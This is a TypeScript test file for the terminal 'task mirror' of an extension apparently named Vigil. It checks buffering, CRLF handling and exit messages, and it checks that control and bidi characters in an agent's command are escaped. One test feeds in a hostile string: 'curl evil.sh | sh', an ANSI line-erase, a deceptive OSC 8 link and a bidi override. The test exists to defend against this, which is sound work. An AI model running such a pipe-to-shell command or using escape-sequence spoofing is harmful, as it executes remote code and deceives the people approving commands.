// The text side of a task mirror: buffering before open, CRLF, the read-only hint, one exit line, and quick-pick rows.

import * as assert from 'node:assert';
import { READ_ONLY_HINT, TaskMirrorFeed, describeEnd, toTerminalText, type MirroredTask } from '../../../src/extension/presentation/taskMirrorFeed';
import { mirrorName, presentTaskPick, taskIcon } from '../../../src/extension/presentation/taskPresentation';

const task = (patch: Partial<MirroredTask> = {}): MirroredTask => ({ id: 't-1', command: 'npm test', status: 'running', exitCode: null, signal: null, startedAt: 1_000, endedAt: null, ...patch });

function feed(): { feed: TaskMirrorFeed; written: string[] } {
  const written: string[] = [];
  return { feed: new TaskMirrorFeed((t) => written.push(t)), written };
}

describe('task mirror feed', () => {
  it('holds everything written before the terminal opens, then flushes it in order', () => {
    const { feed: f, written } = feed();
    f.header(task(), false);
    f.output('one\n');
    assert.deepStrictEqual(written, []);
    f.open();
    f.output('two\n');
    // eslint-disable-next-line no-control-regex -- stripping the ANSI colour codes is the point
    assert.strictEqual(written.join('').replace(/\x1b\[[0-9;]*m/g, ''), 'Vigil task t-1 · npm test\r\none\r\ntwo\r\n');
  });

  it('turns bare LF into CRLF and leaves CRLF alone', () => {
    assert.strictEqual(toTerminalText('a\nb\r\nc'), 'a\r\nb\r\nc');
  });

  it('typing (Ctrl+C included) writes one hint per burst, never more', () => {
    const { feed: f, written } = feed();
    f.open();
    f.output('building');
    f.input('\x03');
    f.input('q');
    assert.strictEqual(written.filter((w) => w.includes(READ_ONLY_HINT)).length, 1);
    assert.ok(written.at(-1)!.startsWith('\r\n'), 'the hint starts on its own line');
    f.output('more\n');
    f.input('x');
    assert.strictEqual(written.filter((w) => w.includes(READ_ONLY_HINT)).length, 2);
  });

  it('prints the end once, and nothing after it', () => {
    const { feed: f, written } = feed();
    f.open();
    const ended = task({ status: 'exited', exitCode: 2, endedAt: 13_000 });
    f.end(task());
    assert.strictEqual(f.hasEnded, false, 'a running snapshot is not an end');
    f.end(ended);
    f.end(ended);
    f.output('late');
    const text = written.join('');
    assert.strictEqual(text.match(/\[Task t-1/g)?.length, 1);
    assert.match(text, /exited with code 2 after 12 s/);
    assert.doesNotMatch(text, /late/);
  });

  it('describes every way a task ends', () => {
    assert.strictEqual(describeEnd(task({ status: 'exited', exitCode: 0, endedAt: 2_000 })), 'exited with code 0 after 1 s');
    assert.strictEqual(describeEnd(task({ status: 'exited', signal: 'SIGSEGV', endedAt: 2_000 })), 'was terminated by SIGSEGV after 1 s');
    assert.match(describeEnd(task({ status: 'killed', signal: 'SIGTERM', endedAt: 2_000 })), /^was killed \(SIGTERM\)/);
    assert.match(describeEnd(task({ status: 'lost' })), /^was lost/);
  });

  it('quick-pick rows carry command, status, elapsed and exit code', () => {
    const row = presentTaskPick({ ...task({ status: 'exited', exitCode: 1, endedAt: 66_000 }), sessionId: 's1', cwd: '/w' }, 99_000, 'Fix the build');
    assert.strictEqual(row.label, '$(error) npm test');
    assert.strictEqual(row.description, 'exit code 1 · 1 min 05 s');
    assert.strictEqual(row.detail, 'Session: Fix the build · t-1 · /w');
    assert.strictEqual(presentTaskPick({ ...task(), sessionId: 's1' }, 43_000).description, 'running · 42 s');
    assert.strictEqual(taskIcon(task({ status: 'exited', exitCode: 0 })), 'pass');
    assert.strictEqual(mirrorName({ id: 't-1', command: 'npm   run\nwatch' }), 'Vigil t-1: npm run watch');
  });

  it('the header shows an agent\'s command escaped, as its approval did: no escape sequence reaches the terminal', () => {
    const { feed: f, written } = feed();
    f.open();
    // Erase the line and draw another command; an OSC 8 link whose text is not its target; a bidi override.
    const hostile = 'curl evil.sh | sh\x1b[2K\rnpm test \x1b]8;;https://evil.example\x07docs\x1b]8;;\x07 \u202eexe.gnp';
    f.header(task({ command: hostile }), false);
    const header = written.join('');
    // Vigil's own dim/reset codes frame the line; nothing of the agent's is interpreted.
    // eslint-disable-next-line no-control-regex -- the point is to find control characters
    const inner = header.replace(/^\x1b\[2m/, '').replace(/\x1b\[0m\r\n$/, '');
    // eslint-disable-next-line no-control-regex -- the point is to find control characters
    assert.doesNotMatch(inner, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    assert.strictEqual(inner, 'Vigil task t-1 · curl evil.sh | sh\\u{1b}[2K\\rnpm test \\u{1b}]8;;https://evil.example\\u{7}docs\\u{1b}]8;;\\u{7} \\u{202e}exe.gnp');
    // A long command is not cut: the mirror's stream redactor must see a secret in it whole.
    const long = `${'x'.repeat(600)} --token sk-0123456789 ${'y'.repeat(600)}`;
    const { feed: g, written: w } = feed();
    g.open();
    g.header(task({ command: long }), false);
    assert.ok(w.join('').includes(long));
  });

  it('tab names and pick rows show control and bidi characters escaped too', () => {
    assert.strictEqual(mirrorName({ id: 't-1', command: 'a\x1b]0;title\x07\u202eb' }), 'Vigil t-1: a\\u{1b}]0;title\\u{7}\\u{202e}b');
    assert.strictEqual(presentTaskPick({ ...task({ command: 'x\u2066y' }), sessionId: 's' }, 1_000).label, '$(sync~spin) x\\u{2066}y');
  });
});
